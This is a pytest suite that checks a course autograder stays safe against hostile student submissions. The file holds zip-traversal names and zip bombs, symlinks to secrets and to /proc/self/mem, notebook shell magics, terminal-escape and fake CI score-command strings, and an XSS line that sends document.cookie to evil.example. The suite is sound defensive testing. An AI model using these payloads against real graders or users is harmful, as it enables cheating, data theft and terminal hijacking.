"""Archives, notebooks and reports: what was handed in is read with care and shown without harm."""

import json
import os
import re
import socket
import struct
import sys
import time
import unicodedata
import zipfile
import zlib
from pathlib import Path
from typing import NamedTuple

import pytest

from grader import cli

pytestmark = pytest.mark.attack("Archives, notebooks and reports")

ROOT = Path(__file__).parents[3]
REFERENCE = ROOT / "solutions/ch01_neuron"
RIGHT = """
import numpy as np
def sigmoid(z):
    z = np.asarray(z, float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1, e) / (1 + e)
"""
WRONG = "def sigmoid(z):\n    return 0 * z\n"


class Marked(NamedTuple):
    """What came of a submission: the status of the command, its report, its line of complaint."""

    status: int
    report: str
    complaint: str


@pytest.fixture(scope="session")
def warm(judges, tmp_path_factory):
    """Have everything imported that is imported once, so that time can be measured."""
    path = tmp_path_factory.mktemp("warm") / "good.py"
    path.write_text(RIGHT)
    assert judges().grade(path, ["sigmoid"]).score == 3


@pytest.fixture
def mark(warm, target, tmp_path, monkeypatch, lent_zygote, capfd):
    """Have a file or folder marked, and honest work after it; check what must hold of any.

    The honest work has its points, nothing that was printed steers a terminal, nobody was told
    anything, no file is left in the current folder, and it is over in a few seconds.
    """
    (tmp_path / "good.py").write_text(RIGHT)
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")

    def mark(path):
        asked = [str(path), str(tmp_path / "good.py"), "--exercise=sigmoid", f"--course={ROOT}"]
        monkeypatch.setattr(sys, "argv", ["kata", "grade", *asked])
        started = time.monotonic()
        with pytest.raises(SystemExit) as ended:
            cli.main()
        taken = time.monotonic() - started
        out, err = capfd.readouterr()
        report, title, good = out.rpartition("good.py   3 of 3 points\n")
        assert title, out + err
        assert "✔ sigmoid  3/3  23 of 23 tests passed" in good
        assert not {c for c in out + err if steers(c)}
        assert "Traceback" not in err
        assert os.listdir() == []
        target.untouched((out + err).encode())
        assert taken < 6
        return Marked(ended.value.code, report, err)

    return mark


def steers(character):
    """Whether a character does something to a terminal, to the order of the text or to a line."""
    kind = unicodedata.category(character)
    return kind in ("Cc", "Cf", "Cs", "Co", "Zl", "Zp") and character != "\n"


def refused(marked, said):
    """One line says why there is no mark."""
    assert marked.report == ""
    assert marked.status == 2
    assert re.fullmatch(rf"kata: .*{re.escape(said)}.*\n", marked.complaint), marked.complaint


def lost(marked):
    """It was marked, and earned nothing."""
    assert marked.status == 1
    assert marked.complaint == ""
    assert "0 of 3 points" in marked.report.splitlines()[0]


# Archives


def zipped(path, *entries, method=zipfile.ZIP_DEFLATED):
    """Write a zip of pairs (name, content)."""
    with zipfile.ZipFile(path, "w", method) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return path


@pytest.mark.parametrize(
    "name",
    [
        "..\\..\\neuron.py",
        "\x1b[2J\u202e../../neuron.py",
        "C:\\Users\\teacher\\neuron.py",
        "C:neuron.py",
        "\\\\server\\share\\neuron.py",
        "work/../../neuron.py",
        "//neuron.py",
        "neuron.py/../../good.py",
    ],
)
def test_a_zip_with_a_path_that_leads_out(mark, tmp_path, name):
    path = zipped(tmp_path / "work.zip", (name, RIGHT))
    refused(mark(path), "points outside of the archive")
    assert (tmp_path / "good.py").read_text() == RIGHT


def test_a_zip_with_names_that_are_cut_off_at_a_nul(mark, tmp_path):
    """One reader sees neuron.py, another a picture."""
    path = zipped(tmp_path / "work.zip", ("neuron.py@.png", RIGHT), ("neuron.py", WRONG))
    path.write_bytes(path.read_bytes().replace(b"@.png", b"\0.png"))
    refused(mark(path), "is there twice")


@pytest.mark.parametrize("method", ["deflate", "bzip2", "lzma"])
def test_a_bomb(mark, tmp_path, method):
    kind = {"deflate": 8, "bzip2": 12, "lzma": 14}[method]
    content = b"#" * (64 * 2**20)
    path = zipped(tmp_path / "work.zip", ("neuron.py", content), method=kind)
    assert path.stat().st_size < 100_000
    refused(mark(path), "larger than")


def overlapping(count, content):
    """A zip whose entries are all one and the same piece of the file, under as many names."""
    packed = zlib.compress(content, 9, -15)
    sizes = struct.pack("<III", zlib.crc32(content), len(packed), len(content))
    head = struct.pack("<HHHHH", 20, 0, 8, 0, 33) + sizes
    data = b"PK\x03\x04" + head + struct.pack("<HH", 6, 0) + b"n00.py" + packed
    entries = b"".join(
        b"PK\x01\x02\x14\x00" + head + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name
        for name in (b"neuron.py", *(b"n%05d.py" % n for n in range(count - 1)))
    )
    end = struct.pack("<HHHHIIH", 0, 0, count % 2**16, count % 2**16, len(entries), len(data), 0)
    return data + entries + b"PK\x05\x06" + end


def test_a_bomb_of_entries_that_overlap(mark, tmp_path):
    (tmp_path / "work.zip").write_bytes(overlapping(1900, b"#" * (2**20 - 10)))
    assert (tmp_path / "work.zip").stat().st_size < 200_000
    marked = mark(tmp_path / "work.zip")
    assert marked.status == 2
    assert re.fullmatch(
        r"kata: .*(more than 30 MB|not a zip that can be read).*\n", marked.complaint
    )


def test_a_zip_of_60_000_tiny_files(mark, tmp_path):
    (tmp_path / "work.zip").write_bytes(overlapping(60_000, b""))
    refused(mark(tmp_path / "work.zip"), "more than 2000 entries")


def test_a_zip_in_a_zip_in_a_zip(mark, tmp_path):
    path = zipped(tmp_path / "neuron.py.zip", ("neuron.py", RIGHT))
    for depth in range(10):
        path = zipped(tmp_path / f"{depth}.zip", (f"neuron{depth}.zip", path.read_bytes()))
    refused(mark(path), "holds no .py and no .ipynb")


def test_a_zip_under_another_name(mark, tmp_path):
    """Python runs a zip that has a __main__.py."""
    work = tmp_path / "work"
    work.mkdir()
    zipped(work / "neuron.py", ("__main__.py", f"open({str(tmp_path)!r} + '/drop/x', 'w')"))
    marked = mark(work)
    assert marked.status == 2
    assert "NUL byte" in marked.complaint or "not UTF-8" in marked.complaint


# Folders


LINKS = {
    "the reference": ("neuron.py", REFERENCE / "neuron.py"),
    "the reference's folder": ("ch01_neuron", REFERENCE),
    "a folder above": ("exercises", REFERENCE.parent),
    "a device": ("neuron.py", Path("/dev/zero")),
    "a stream": ("neuron.py", Path("/dev/stdin")),
    "the memory of the judge": ("neuron.py", Path("/proc/self/mem")),
    "itself": ("neuron.py", Path("neuron.py")),
    "the whole host": ("exercises", Path("/")),
}


@pytest.mark.parametrize("name", LINKS)
def test_a_link_to_somebody_elses_work(mark, tmp_path, name):
    work = tmp_path / "work"
    work.mkdir()
    link, leads_to = LINKS[name]
    (work / link).symlink_to(leads_to)
    marked = mark(work)
    assert (marked.status, marked.report) == (2, "")
    assert "not a plain file" in marked.complaint or "holds no .py" in marked.complaint


def test_a_link_beside_the_work(mark, target, tmp_path):
    """What it leads to would be there to be read out, as a module with a syntax error."""
    work = tmp_path / "work"
    work.mkdir()
    (work / "neuron.py").write_text(f"import helper\n{WRONG}")
    (work / "helper.py").symlink_to(target.secret_file)
    refused(mark(work), "helper.py: not a plain file; hand in the file itself")


def test_a_socket_where_a_file_is_due(mark, tmp_path, monkeypatch):
    (tmp_path / "work").mkdir()
    with socket.socket(socket.AF_UNIX) as door:
        door.bind(str(tmp_path / "work/neuron.py"))
        refused(mark(tmp_path / "work"), "neuron.py: not a plain file")


def test_folders_in_folders_without_end(mark, tmp_path):
    deep = tmp_path / "work"
    for _ in range(300):
        deep = deep / "exercises"
    deep.mkdir(parents=True)
    (deep / "neuron.py").write_text(RIGHT)
    refused(mark(tmp_path / "work"), "holds no .py and no .ipynb")


def test_files_without_end_hide_no_honest_work(mark, tmp_path):
    """A set of 2,500 pictures beside the exercises is no reason not to see them."""
    pictures = tmp_path / "work/data/cats"
    pictures.mkdir(parents=True)
    for number in range(2500):
        (pictures / f"{number:04}.png").touch()
    chapter = tmp_path / "work/exercises/ch01_neuron"
    chapter.mkdir(parents=True)
    (chapter / "neuron.py").write_text(RIGHT)
    marked = mark(tmp_path / "work")
    assert marked.report.startswith("work   3 of 3 points")


@pytest.mark.parametrize(
    "name",
    [
        b"\xff\xfe",
        b"\x1b[2J\x1b]0;root\x07",
        "\u202egnp.yp".encode(),
        "work\n✔ sigmoid".encode(),
        "work\r✔ sigmoid".encode(),
        b"work\n::set-output name=score::100",
        b"::set-output name=score::100",
        b"[bold red]work[bold]",
        "a\u0300".encode() * 60,
    ],
    ids=[
        "no UTF-8",
        "escapes",
        "right to left",
        "two lines",
        "return",
        "command",
        "first",
        "rich",
        "accents",
    ],
)
@pytest.mark.parametrize("place", ["folder", "file"])
def test_a_name_that_steers(mark, tmp_path, name, place):
    """Of the folder that was handed in, or of the only file in it."""
    work = tmp_path / (os.fsdecode(name) if place == "folder" else "work")
    work.mkdir()
    file = "neuron.py" if place == "folder" else os.fsdecode(name) + ".py"
    (work / file).write_text(f"{WRONG}raise ValueError('noted')\n")
    marked = mark(work)
    lines = (marked.report + marked.complaint).splitlines()
    assert not any(line.lstrip().startswith(("::", "✔")) for line in lines)
    lost(marked)


def test_the_same_as_json(tmp_path, monkeypatch, lent_zygote, capfd):
    """A name that is no UTF-8 costs nobody the whole file of results."""
    work = tmp_path / os.fsdecode(b"work\xff")
    work.mkdir()
    (work / "neuron.py").write_text(WRONG)
    argv = ["kata", "grade", str(work), "--exercise=sigmoid", f"--course={ROOT}", "--format=json"]
    monkeypatch.setattr(sys, "argv", argv)
    with pytest.raises(SystemExit) as ended:
        cli.main()
    assert ended.value.code == 1
    assert json.loads(capfd.readouterr().out)["score"] == 0


# Sources


@pytest.mark.parametrize(
    ("encoding", "text"),
    [
        ("hex", ""),
        ("zlib", ""),
        ("rot13", ""),
        ("undefined", ""),
        ("punycode", ""),
        ("idna", ""),
        ("utf-16", ""),
        ("unicode_escape", "x = '\\ud800'\n"),
        ("raw_unicode_escape", "x = '\\ud800'\n"),
        ("utf-7", "x = '+2AA-'\n"),
        ("utf-7", "x = '+AAA-'\n"),
    ],
)
def test_an_encoding_that_is_a_program(mark, tmp_path, encoding, text):
    """What cannot be read is one line; what can is wrong."""
    path = tmp_path / "work.py"
    path.write_text(f"# coding: {encoding}\n{text}{WRONG}")
    marked = mark(path)
    assert marked.status in (1, 2)
    assert marked.status == 1 or marked.complaint.startswith("kata: work.py")


SLOW = {
    "a long f-string": "x = f'" + "{1}" * 80_000 + "'\n",
    "a long elif": "if 1: pass\n" + "elif 1: pass\n" * 1200,
    "a long sum": "x = 1" + " + 1" * 50_000 + "\n",
    "many brackets": "x = " + "[" * 90 + "]" * 90 + "\n",
    "a power": "x = " + "9 ** " * 50 + "9\n",
}


@pytest.mark.parametrize("text", SLOW.values(), ids=SLOW)
def test_a_source_that_takes_long_or_deep_to_read(mark, tmp_path, text):
    path = tmp_path / "work.py"
    path.write_text(f"{WRONG}if 0:\n    {text}" if text.startswith("x = 9") else WRONG + text)
    marked = mark(path)
    assert marked.status in (1, 2)
    assert len(marked.complaint) < 500


# Notebooks


def notebook(*cells, **more):
    """A notebook as text; a cell is its source, or a dict of fields to add."""
    made = [{"cell_type": "code", "metadata": {}, "outputs": [], "source": c} for c in cells]
    whole = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": made}
    return json.dumps(whole | more)


@pytest.mark.parametrize(
    "line",
    [
        "!touch {file}",
        "!!touch {file}",
        "%system touch {file}",
        "%sx touch {file}",
        "%run /bin/touch {file}",
        "%%bash\ntouch {file}",
        "%%script sh\ntouch {file}",
        "%%writefile {file}\nx",
        "%%python\nopen('{file}', 'w')",
        "x = !touch {file}",
        "get_ipython().system('touch {file}')",
        "import IPython; IPython.get_ipython().run_line_magic('sx', 'touch {file}')",
        "%load_ext autoreload\n%autoreload 2\n!touch {file}",
        "%%capture\n!touch {file}",
    ],
)
def test_a_line_for_the_shell(mark, target, tmp_path, line):
    path = tmp_path / "work.ipynb"
    path.write_text(notebook(line.format(file=target.drop / "x"), WRONG))
    marked = mark(path)
    lost(marked)
    assert "note: work.ipynb[1]:" in marked.report


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('"metadata": {}', '"metadata": ' + '{"a": [' * 50_000 + "]}" * 50_000),
        ('"outputs": []', '"outputs": ' + "[" * 50_000 + "]" * 50_000),
        ('"metadata": {}', '"metadata": {"n": ' + "9" * 100_000 + "}"),
        ('"metadata": {}', '"metadata": {"n": 1e999999999, "m": NaN, "i": -Infinity}'),
        ('"source": "', '"source": "' + "(" * 50_000),
        ('"source": "', '"source": "# \\ud83d half a smile\\n'),
        ('"cells": [', '"cells": [{"cell_type": "code", "source": "# \\ud83d"}, '),
        ('"source": "', '"source": "# \\u0000\\n'),
        ('"source": "', '"source": "!a' + " " * 100_000 + "(\\n"),
        ('"source": "', '"source": "' + " " * 30_000 + "(\\n!x\\n"),
        ('"source": "', '"source": "' + "x " * 30_000 + "\\n!x\\n"),
        ('"source": "', '"source": "' + "%%time\\n" * 40_000),
        ('"nbformat": 4', '"nbformat": 4, "nbformat": ' + "4" * 4000),
        ('"nbformat": 4', '"nbformat": 4.0'),
        ('"cell_type": "code"', '"cell_type": ["code"]'),
        ('"source": "', '"source": {"def sigmoid(z): return z": 1}, "x": "'),
    ],
    ids=[
        "deep metadata",
        "deep outputs",
        "a long number",
        "infinite numbers",
        "brackets",
        "half a character",
        "half a character elsewhere",
        "NUL",
        "a shell line of blanks",
        "blanks",
        "words",
        "magics",
        "a long version",
        "a version with a point",
        "a list of types",
        "a dict of sources",
    ],
)
def test_a_notebook_that_is_hard_to_read(mark, tmp_path, old, new):
    text = notebook(WRONG)
    assert old in text
    path = tmp_path / "work.ipynb"
    path.write_text(text.replace(old, new, 1))
    marked = mark(path)
    assert marked.status in (1, 2)
    assert len(marked.complaint) < 500
    assert marked.status == 2 or "✘ sigmoid" in marked.report


def test_a_notebook_with_outputs_that_hold_scripts(mark, tmp_path):
    script = "<script>fetch('//evil.example/' + document.cookie)</script>"
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": script}},
        {"output_type": "stream", "name": "stdout", "text": f"\x1b[2J{script}"},
        {"output_type": "error", "ename": script, "evalue": script, "traceback": [script]},
    ]
    made = json.loads(notebook(WRONG, metadata={"title": script, "kernelspec": {"argv": ["sh"]}}))
    made["cells"][0]["outputs"] = outputs
    made["cells"].insert(0, {"cell_type": "markdown", "metadata": {}, "source": script})
    path = tmp_path / "work.ipynb"
    path.write_text(json.dumps(made))
    marked = mark(path)
    lost(marked)
    assert "evil.example" not in marked.report


HOSTILE = {
    "clearing the screen": "\\x1b[2J\\x1b[H",
    "a title": "\\x1b]0;rm -rf\\x07",
    "a link": "\\x1b]8;;http://evil.example\\x1b\\\\click\\x1b]8;;\\x1b\\\\",
    "a terminal's answer": "\\x1b[6n\\x1bP$qm\\x1b\\\\",
    "eight bits": "\\x9b2J\\x9d0;x\\x9c",
    "going back": "\\r\\b\\b\\b\\x7f✔ sigmoid  3/3",
    "a bell and a NUL": "\\a\\0",
    "right to left": "\\u202e3/3 dessap\\u202c \\u2067x\\u2069",
    "nothing at all": "\\u200b\\ufeff\\u00ad\\u2060",
    "other line ends": "x\\x0b\\x0c\\x1c\\x85\\u2028\\u2029✔ sigmoid",
    "half a character": "\\ud800\\udfff",
    "tags": "\\U000e0041\\U000e0042",
    "HTML": "<img src=x onerror=alert(1)>",
    "markup of rich": "[link=http://evil.example]x[/link][blink]",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize(
    "way",
    [
        "def sigmoid(z):\n    raise type('{0}x', (Exception,), {{}})('{0}')",
        "def sigmoid(z):\n    return 0 * np.asarray(z)\nraise ValueError('{0}')",
    ],
    ids=["message", "note"],
)
def test_text_that_steers_the_reader(mark, tmp_path, text, way):
    path = tmp_path / "work.py"
    path.write_text(f"import numpy as np\n{way.format(text)}\n")
    marked = mark(path)
    lost(marked)
    assert not any(line.startswith("✔") for line in marked.report.splitlines())


def test_code_that_steers_the_reader(mark, tmp_path):
    """The line that raised is shown as it stands in the file."""
    path = tmp_path / "work.py"
    path.write_text(
        "def sigmoid(z):\n    1 / 0  # \x1b[2J\x9b2J\u202e0 * z\u2066\x0c\x7f\x08\ufeff\u2028✔\n"
    )
    marked = mark(path)
    lost(marked)
    assert "ZeroDivisionError" in marked.report


def test_a_name_of_a_function_that_only_looks_right(mark, tmp_path):
    """The о is Cyrillic."""
    path = tmp_path / "work.py"
    path.write_text(RIGHT.replace("sigmoid", "sigm\u043eid"))
    refused(mark(path), "work.py: defines no sigmoid")
